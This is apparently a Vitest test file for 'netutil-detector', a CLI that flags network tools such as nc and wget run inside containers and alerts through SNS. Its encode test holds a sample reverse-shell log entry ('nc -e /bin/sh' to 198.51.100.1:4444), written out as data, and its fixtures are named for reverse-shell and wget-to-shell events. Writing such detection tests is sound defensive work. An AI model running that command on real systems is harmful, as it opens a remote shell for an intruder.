import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli } from "../support/cli.js";

const NO_TOPIC = { SNS_TOPIC_ARN: undefined, PAGER_TOPIC_ARN: undefined };

describe("netutil-detector invoke", () => {
  it("prints one JSON signal per line on stdout and the summary on stderr", () => {
    const run = runCli(["invoke", "events/tetragon-reverse-shell.json"], NO_TOPIC);

    expect(run.status).toBe(0);
    expect(run.lines).toHaveLength(1);
    expect(run.lines[0]).toMatchObject({
      severity: "critical",
      count: 3,
      rule: { id: "net_util_in_container", tactic: "TA0011", technique: "T1105" },
      process: { name: "nc" },
    });
    expect(run.stderr).toMatch(/dry run: nothing published/);
  });

  it("is a dry run with --dry-run even when a topic is configured", () => {
    const run = runCli(["invoke", "--dry-run", "events/falco-wget-piped-to-shell.json"], {
      SNS_TOPIC_ARN: "arn:aws:sns:us-east-1:123456789012:unreachable",
      AWS_ENDPOINT_URL: "http://127.0.0.1:9",
    });
    expect(run.status).toBe(0);
    expect(run.lines).toHaveLength(1);
  });

  it("keeps going past a bad file and exits non-zero naming it", () => {
    const dir = mkdtempSync(join(tmpdir(), "netutil-invoke-"));
    const bad = join(dir, "broken.json");
    writeFileSync(bad, "{ not json");
    const run = runCli(
      ["invoke", bad, "events/tetragon-reverse-shell.json", "events/bad-payload.json"],
      NO_TOPIC,
    );

    expect(run.status).toBe(1);
    expect(run.lines).toHaveLength(1);
    expect(run.stderr).toContain(`cannot read ${bad} as JSON`);
    expect(run.stderr).toMatch(/bad-payload\.json: DecodeError: payload is not valid gzip data/);
  });

  it("rejects a missing file, an unknown flag and a bad severity with usage errors", () => {
    expect(runCli(["invoke"], NO_TOPIC).status).toBe(2);
    expect(runCli(["invoke", "--bogus", "x.json"], NO_TOPIC).status).toBe(2);
    const severity = runCli(["invoke", "--min-severity", "urgent", "events/control-message.json"], NO_TOPIC);
    expect(severity.status).toBe(2);
    expect(severity.stderr).toMatch(/--min-severity must be one of/);
    expect(runCli(["frobnicate"], NO_TOPIC).status).toBe(2);
  });

  it("--min-severity low also emits low findings", () => {
    const run = runCli(["invoke", "--min-severity", "low", "events/tetragon-benign.json"], NO_TOPIC);
    expect(run.status).toBe(0);
    expect(run.lines.map((s) => s.severity)).toEqual(["low"]);
  });

  it("acknowledges a control message with no signal", () => {
    const run = runCli(["invoke", "events/control-message.json"], NO_TOPIC);
    expect(run.status).toBe(0);
    expect(run.lines).toEqual([]);
  });
});

describe("netutil-detector encode", () => {
  it("wraps log lines into an event that invoke accepts", () => {
    const line = JSON.parse(
      '{"process_exec":{"process":{"binary":"/tmp/nc","arguments":"-e /bin/sh 198.51.100.1 4444","pod":{"namespace":"x","name":"p","container":{"id":"containerd://abc","name":"c"}}}},"time":"2026-11-28T10:00:00Z"}',
    );
    const encoded = runCli(
      ["encode", "--log-group", "/ecs/x"],
      NO_TOPIC,
      `plain line\n${JSON.stringify(line)}\n`,
    );
    expect(encoded.status).toBe(0);
    const dir = mkdtempSync(join(tmpdir(), "netutil-encode-"));
    const file = join(dir, "event.json");
    writeFileSync(file, encoded.stdout);

    const run = runCli(["invoke", file], NO_TOPIC);
    expect(run.status).toBe(0);
    expect(run.lines).toHaveLength(1);
    expect(run.lines[0]).toMatchObject({ severity: "critical", source: { logGroup: "/ecs/x" } });
  });

  it("refuses empty input", () => {
    const run = runCli(["encode"], NO_TOPIC, "\n\n");
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/input is empty/);
  });
});

describe("netutil-detector demo", () => {
  it("shows every sample behaving as its manifest says", () => {
    const run = runCli(["demo"], NO_TOPIC);
    expect(run.stderr).toContain("every sample behaved as expected");
    expect(run.status).toBe(0);
    expect(run.lines.length).toBeGreaterThanOrEqual(8);
  });
});

describe("node dist/cli.js config", () => {
  it("prints the resolved configuration as JSON", () => {
    const run = runCli(["config"], { ...NO_TOPIC, MIN_SEVERITY: "high", ALLOWLIST: '[{"utility":"dig"}]' });
    expect(run.status).toBe(0);
    expect(run.lines[0]).toMatchObject({ minSeverity: "high", allowlistEntries: 1, snsTopicArn: null });
  });

  it("with --lambda requires the topic, naming the variable", () => {
    const run = runCli(["config", "--lambda"], NO_TOPIC);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/SNS_TOPIC_ARN: SNS_TOPIC_ARN is required/);
  });

  it("names the allowlist entry and field that is wrong", () => {
    const run = runCli(["config"], { ...NO_TOPIC, ALLOWLIST: '[{"utility":"dig"},{"image":5}]' });
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/ALLOWLIST.*entry 1.*image/);
  });
});
